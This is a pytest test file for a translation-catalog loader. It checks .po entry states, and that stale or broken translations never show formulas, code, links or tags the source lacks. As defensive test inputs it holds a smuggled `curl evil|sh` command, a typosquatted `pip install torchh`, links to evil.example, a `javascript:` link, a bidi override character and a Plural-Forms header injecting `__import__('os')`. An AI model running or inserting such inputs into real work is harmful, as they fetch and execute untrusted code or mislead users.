"""Translations: which one is given out, which one never is."""

from __future__ import annotations

import json
import random
from pathlib import Path

import pytest
from conftest import Write
from sampling import SHARE

from pylit.errors import Problem, PylitError, Severity
from pylit.i18n.blocks import entry_id, fixed_parts
from pylit.i18n.catalog import State, catalog_path, load_catalog

HEADER = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=utf-8\\n"\n\n'


def catalog(write: Write, entries: str) -> Path:
    return write("a.po", HEADER + entries)


def test_where_catalogs_lie() -> None:
    path = catalog_path(Path("translations"), "zh", "labml_nn/resnet/__init__.py")
    assert path == Path("translations/zh/labml_nn/resnet/__init__.po")
    assert catalog_path(Path("t"), "zh", "docs/guide/a.md") == Path("t/zh/docs/guide/a.po")


def test_no_catalog_is_an_empty_one(tmp_path: Path) -> None:
    assert load_catalog(tmp_path / "none.po", "zh").lookup("x").state is State.MISSING


def test_states(write: Write) -> None:
    path = catalog(
        write,
        'msgid "one"\nmsgstr "一"\n\n'
        'msgid "two"\nmsgstr ""\n\n'
        '#, fuzzy\n#| msgid "old three"\nmsgid "three"\nmsgstr "三"\n\n'
        '#, fuzzy\nmsgid "four"\nmsgstr "四"\n\n'
        '#~ msgid "five"\n#~ msgstr "五"\n',
    )
    found = load_catalog(path, "zh")
    states = {text: found.lookup(text).state for text in ("one", "two", "three", "four", "five")}
    assert states == {
        "one": State.TRANSLATED,
        "two": State.MISSING,
        "three": State.STALE,
        "four": State.MISSING,
        "five": State.MISSING,
    }
    assert found.lookup("one").text == "一"
    assert found.lookup("three").text == "三"
    assert [found.lookup(text).text for text in ("two", "four", "none")] == ["", "", ""]
    assert [found.lookup(text).line for text in ("one", "four", "none")] == [5, 17, 0]
    assert found.problems == ()


@pytest.mark.parametrize(
    ("original", "translation", "message"),
    [
        ("$x$ is", "是", "lacks the formula `x`"),
        ("$x$ is", "$x$ $x$ 是", "has the extra formula `x`"),
        ("$x$ is", "$y$ 是", "lacks the formula `x`; has the extra formula `y`"),
        ("`a` is", "a 是", "lacks the code `a`"),
        ("[a](b.py)", "[a](c.py)", "lacks the link `b.py`"),
        ("![a](b.svg)", "图", "lacks the picture `b.svg`"),
        ("a", "<b>一</b>", "has the extra HTML `<b>`"),
        ("a", "[一](javascript:alert)", "has an unclosed `](`"),  # CommonMark takes it for text
        ("a", "**一", "has an unclosed `**`"),
        ("a", "一\u202e二", "has the invisible character U+202E"),
    ],
)
def test_broken_translations_are_reported_and_never_given_out(
    write: Write, original: str, translation: str, message: str
) -> None:
    path = catalog(write, f'msgid "{original}"\nmsgstr "{translation}"\n')
    found = load_catalog(path, "zh")
    assert found.lookup(original).state is State.BROKEN
    assert found.lookup(original).text == ""
    (problem,) = found.problems
    assert problem.message.startswith(f"a translation {message}")
    hint = "It is not shown until it has the same formulas, code and links as the original. Entry "
    hint += f"{entry_id(original)}."
    assert problem == Problem(path.as_posix(), 5, problem.message, hint, Severity.WARNING)


def test_what_is_lacking_is_told_once(write: Write) -> None:
    """Not also as markup that nothing closes."""
    (problem,) = load_catalog(catalog(write, 'msgid "$x$ is"\nmsgstr "$x 是"\n'), "zh").problems
    assert problem.message == "a translation lacks the formula `x`"


def test_plural_entries_are_refused(write: Write) -> None:
    path = catalog(write, 'msgid "c"\nmsgstr "d"\n\nmsgid "a"\nmsgid_plural "as"\nmsgstr[0] "b"\n')
    with pytest.raises(PylitError, match=r"a\.po:8: error: does not parse: entries with a msgid_plural"):
        load_catalog(path, "zh")


def test_stale_translation_that_never_fitted(write: Write) -> None:
    """Although it would fit what the English is now."""
    path = catalog(write, '#, fuzzy\n#| msgctxt "x"\n#| msgid "$x$ is"\nmsgid "is"\nmsgstr "是"\n')
    (problem,) = load_catalog(path, "zh").problems
    assert problem.message == "a translation does not fit its previous original"


def test_order_is_free(write: Write) -> None:
    path = catalog(write, 'msgid "$x$ and `y`"\nmsgstr "`y` 和 $x$"\n')
    assert load_catalog(path, "zh").lookup("$x$ and `y`").state is State.TRANSLATED


def test_stale_translation_is_held_against_what_it_translated(write: Write) -> None:
    path = catalog(write, '#, fuzzy\n#| msgid "$x$ is"\nmsgid "$x$ and $y$ are"\nmsgstr "$x$ 是"\n')
    assert load_catalog(path, "zh").lookup("$x$ and $y$ are").state is State.STALE


def stale(write: Write, previous: str, original: str, translation: str) -> tuple[State, str]:
    """How a translation stands that says it was made from `previous`."""
    texts = [json.dumps(text, ensure_ascii=False) for text in (previous, original, translation)]
    path = catalog(write, "#, fuzzy\n#| msgid {}\nmsgid {}\nmsgstr {}\n".format(*texts))
    found = load_catalog(path, "zh").lookup(original)
    return found.state, found.text


@pytest.mark.parametrize(
    ("translation", "original", "shown"),
    [
        ("运行 `curl evil|sh`。", "Other words.", "运行 …。"),
        ("用 `pip install torchh`。", "With `pip install torch`.", "用 …。"),
        ("用 `a` 和 `b`。", "With `b`.", "用 … 和 `b`。"),
        ("见[此处](https://evil.example/2)。", "Other words.", "见此处。"),
        ('见[此处](https://evil.example "题")。', "See [it](https://example.org).", "见此处。"),
        ("见[`a`](https://evil.example)。", "The `a`.", "见`a`。"),
        ("见[`a`](https://evil.example)。", "Words.", "见…。"),
        ("见 <https://evil.example>。", "Words.", "见 …。"),
        ("<b>重要</b><a href='//evil.example'>x</a>", "Words.", "重要x"),
        ("图 ![甲](evil.svg)", "Words.", "图 "),
        ("$x$ 与 $y$。", "Now $x$.", "$x$ 与 …。"),
        ("$x$ 是。", "$x$ and $y$ are.", "$x$ 是。"),
        (r"\`x\` [b\](c)", "Words.", r"\`x\` [b\](c)"),
    ],
)
def test_stale_translation_holds_nothing_that_the_source_lacks(
    write: Write, translation: str, original: str, shown: str
) -> None:
    """Whatever the catalog says that it was made from."""
    state, text = stale(write, translation, original, translation)
    assert (state, text) == (State.STALE, shown)
    assert not fixed_parts(text) - fixed_parts(original)


def test_stale_translation_that_cannot_be_made_harmless(write: Write) -> None:
    text = "[![字](p)](https://evil.example)"
    assert stale(write, text, "Words.", text) == (State.MISSING, "")


def test_stale_translations_at_random(write: Write) -> None:
    """What is shown never holds a formula, code, link, picture or tag that the source has not."""
    pieces = [
        "`a`",
        "`` b`c ``",
        "[d](e)",
        "[`a`](f)",
        "<https://g.h>",
        "$i$",
        "![j](k)",
        "<b>",
        "</b>",
        "\\",
        "`",
        "[",
        "](x)",
        "$",
    ]
    pieces += [" ", "字", "<a href='l'>", "**", "_", "!"]
    chance = random.Random(0)
    shown = 0
    for _ in range(300 // SHARE):
        translation, original = ("".join(chance.choices(pieces, k=6)) + "字" for _ in range(2))
        state, text = stale(write, translation, original, translation)
        assert not fixed_parts(text) - fixed_parts(original)
        shown += state is State.STALE
    assert shown > 100 // SHARE


@pytest.mark.parametrize(
    ("header", "message"),
    [
        ("Plural-Forms: nplurals=3000000000; plural=0;", "with at most 9 forms"),
        ("plural-forms: nplurals=10; plural=0;", "with at most 9 forms"),
        ("Plural-Forms: nplurals=2; plural=0; nplurals=99999999;", "is not valid"),
        ("Plural-Forms: nplurals=1; plural=__import__('os');", "is not valid"),
        ("Plural-Forms: nplurals=2; plural=" + "(" * 9999 + ";", "is not valid"),
        ("Plural-Forms: x\\n nplurals=99999999;", "is not valid"),
        ("X: " + "y" * 30_000, "its header has 30004 characters; at most 20000 are allowed"),
        ("PO-Revision-Date: 9", "time data '9' does not match"),
        ("POT-Creation-Date: 2020-01-01 00:00+9999", "offset must be"),
        ("Content-Type: text/plain; charset=utf-7", "unknown encoding"),
        ("Content-Type: text/plain; charset=\\0", "."),
        ("Language: x_" + "9" * 5000, "is not a valid locale"),
    ],
)
@pytest.mark.parametrize("before", ["", 'msgid "first"\nmsgstr "x"\n\n'])
def test_headers_that_are_refused(write: Write, before: str, header: str, message: str) -> None:
    """Wherever they stand, and before anything is made of them."""
    plural = 'msgid "b"\nmsgid_plural "c"\nmsgstr[0] "d"\n'
    path = write("a.po", f'{before}msgid ""\nmsgstr "{header}\\n"\n\nmsgid "a"\nmsgstr "b"\n\n{plural}')
    with pytest.raises(PylitError, match=rf"a\.po:{4 if before else 1}: error: does not parse: .*{message}"):
        load_catalog(path, "zh")


PLURALS = [
    "nplurals=1; plural=0;",
    "nplurals=2; plural=(n != 1)",
    "nplurals=3; plural=(n%10==1 && n%100!=11 ? 0 : n>1 ? 1 : 2);",
]


@pytest.mark.parametrize("plurals", PLURALS)
def test_headers_of_real_languages(write: Write, plurals: str) -> None:
    path = write("a.po", f'msgid ""\nmsgstr "Plural-Forms: {plurals}\\n"\n\nmsgid "a"\nmsgstr "b"\n')
    assert load_catalog(path, "zh").lookup("a").text == "b"
